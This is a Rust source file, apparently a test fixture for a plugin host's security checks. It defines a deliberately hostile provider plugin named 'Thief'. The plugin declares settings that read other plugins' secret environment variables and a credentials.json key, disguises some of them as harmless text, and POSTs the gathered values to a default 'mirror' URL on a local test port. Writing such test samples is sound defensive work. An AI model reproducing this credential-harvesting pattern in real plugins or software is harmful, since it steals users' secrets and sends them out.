//! Declares settings that are looked up where others keep their secrets, and a URL of its own choice as the default of another, and sends away
//! whatever it gets hold of.

use bootmachine_sdk::http::Request;
use bootmachine_sdk::manifest::{FileFormat, Setting};
use bootmachine_sdk::{DeclaredServer, Error, Image, Label, Manifest, Plugin, Provider, Result, Server, ServerSpec, Settings, Size};

/// Where it sends its loot. The test writes a port of its own in the place of this one.
const DEN: &str =
    "http://127.0.0.1:54321/a/path/that/is/long/enough/to/be/kept/in/one/piece/by/whatever/compiles/it/and/still/a/bit/longer";

struct Thief {
    loot: Vec<(String, String)>,
}

impl Plugin for Thief {
    fn describe() -> Manifest {
        Manifest::provider("thief", "0.1.0", "Looks like any other")
            .setting(Setting::url("endpoint", "the service").required())
            .setting(Setting::secret("password", "the password").env("PRACTICE_PASSWORD").required())
            .setting(Setting::secret("token", "a token").env("PRACTICE_PASSWORD").bound_to("{mirror}"))
            // Said to be no secrets, so that they would be handed over as they are.
            .setting(Setting::text("colour", "a harmless wish").env("SOMEBODYS_SECRET"))
            .setting(Setting::text("shape", "another").file(FileFormat::Json, &["credentials.json"], "/deep/key"))
            .setting(Setting::url("mirror", "a mirror").default(DEN))
            .origin("{endpoint}", "the service")
            .origin("{mirror}", "a mirror")
    }
}

impl Provider for Thief {
    fn connect(settings: Settings, _: &[DeclaredServer]) -> Result<Self> {
        let names = ["endpoint", "password", "token", "colour", "shape", "mirror"];
        let loot = names
            .iter()
            .filter_map(|name| Some(((*name).to_owned(), settings.get(name)?.to_owned())))
            .collect();
        Ok(Self { loot })
    }

    /// Sends the setting of this name to the mirror. `everything`: says what it has.
    fn console_output(&mut self, id: &str) -> Result<String> {
        let value = |name: &str| self.loot.iter().find(|(known, _)| known == name).map(|(_, value)| value.clone());
        if id == "everything" {
            let lines: Vec<String> = self.loot.iter().map(|(name, value)| format!("{name} = {value}")).collect();
            return Ok(lines.join("\n"));
        }
        let loot = value(id).unwrap_or_else(|| "nothing".to_owned());
        let den = value("mirror").ok_or_else(|| Error::failed("there is no mirror"))?;
        let response = Request::post(den).body("text/plain", format!("{id}: {loot}")).send()?;
        Ok(format!("{id}: {}", response.status))
    }

    fn list_servers(&mut self, _: &[Label]) -> Result<Vec<Server>> {
        Ok(Vec::new())
    }

    fn check_servers(&mut self, specs: &[ServerSpec]) -> Result<Vec<Result<()>>> {
        Ok(specs.iter().map(|_| Ok(())).collect())
    }

    fn create_servers(&mut self, specs: &[ServerSpec]) -> Result<Vec<Result<Server>>> {
        Ok(specs.iter().map(|_| Err(Error::unsupported("it makes nothing"))).collect())
    }

    fn destroy_servers(&mut self, ids: &[String]) -> Result<Vec<Result<()>>> {
        Ok(ids.iter().map(|_| Ok(())).collect())
    }

    fn reboot_servers(&mut self, ids: &[String]) -> Result<Vec<Result<()>>> {
        Ok(ids.iter().map(|_| Ok(())).collect())
    }

    fn set_labels(&mut self, _: &str, _: &[Label]) -> Result<()> {
        Ok(())
    }

    fn list_images(&mut self, _: Option<&str>) -> Result<Vec<Image>> {
        Ok(Vec::new())
    }

    fn list_sizes(&mut self) -> Result<Vec<Size>> {
        Ok(Vec::new())
    }
}

bootmachine_sdk::export_provider!(Thief);
